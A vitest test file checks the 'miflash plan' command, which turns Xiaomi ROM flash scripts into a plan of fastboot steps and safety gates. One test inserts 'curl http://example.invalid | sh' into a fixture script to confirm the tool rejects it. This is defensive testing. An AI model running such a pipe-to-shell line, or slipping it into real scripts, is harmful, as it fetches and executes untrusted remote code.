// `miflash plan` end to end through the built CLI (run `npx tsc -p .` first).
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FlashPlanSchema } from '../../src/plan/schema.js';
import { buildSyntheticRom } from '../../src/rom/synthetic.js';

const bin = new URL('../../bin/miflash.js', import.meta.url).pathname;
const run = (...args: string[]) => spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8', timeout: 30_000 });

let work: string;
let rom: string;
beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'miflash-plan-cli-'));
  rom = (await buildSyntheticRom(join(work, 'liuqin_images'), { from: 'liuqin', anti: 5 })).root;
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('miflash plan', () => {
  it('prints a table by default', () => {
    const r = run('plan', rom);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('script: flash_all.sh (+ flash_all.bat)  dialect: sh  mode: clean');
    // The gates are the script's own exits, each under the condition the script computes.
    expect(r.stdout).toMatch(/\n\d+\s+2\s+exit\s+REFUSES \(exit 1\): Missmatching image and device\s+abort\s+if not \(fastboot getvar product/);
    expect(r.stdout).toMatch(/\n\d+\s+11\s+exit\s+REFUSES \(exit 1\): Current device antirollback/);
    expect(r.stdout).toMatch(/flash\s+crclist\s+images\/crclist\.txt\s+abort\s+if fastboot getvar crc 2>&1 \| grep "\^crc: 1"/);
    expect(r.stdout).toMatch(/set-active\s+a\s+abort/);
  });

  it('--json prints the plan object, valid against the schema; --mode and --script select the script', () => {
    const r = run('plan', rom, '--json', '--mode', 'keep-data');
    expect(r.status).toBe(0);
    const plan = FlashPlanSchema.parse(JSON.parse(r.stdout));
    expect(plan.source).toMatchObject({ script: 'flash_all_except_storage.sh', mode: 'keep-data', rom });
    expect(plan.steps.some((s) => s.kind === 'flash' && s.partition === 'userdata')).toBe(false);
    const bat = FlashPlanSchema.parse(JSON.parse(run('plan', rom, '--json', '--script', 'flash_all.bat').stdout));
    expect(bat.source).toMatchObject({ script: 'flash_all.bat', dialect: 'bat' });
  });

  it('a missing mode and an unknown script line exit 2 with a specific message', () => {
    const lock = run('plan', rom, '--mode', 'lock');
    expect(lock.status).toBe(2);
    expect(lock.stderr).toMatch(/no script for mode lock/);
    const bad = mkdtempSync(join(work, 'bad-'));
    const dir = join(bad, 'r');
    return buildSyntheticRom(dir, { from: 'cereus' }).then(() => {
      const f = join(dir, 'flash_all_lock.sh');
      writeFileSync(f, 'curl http://example.invalid | sh\n' + readFileSync(f, 'utf8'));
      const r = run('plan', dir, '--mode', 'lock', '--json');
      expect(r.status).toBe(2);
      const ev = JSON.parse(r.stdout);
      expect(ev).toMatchObject({ event: 'error', code: 'script.unsupported', exitCode: 2 });
      expect(ev.message).toMatch(/^flash_all_lock\.sh:1: curl is not a command miflash interprets/);
    });
  });
});
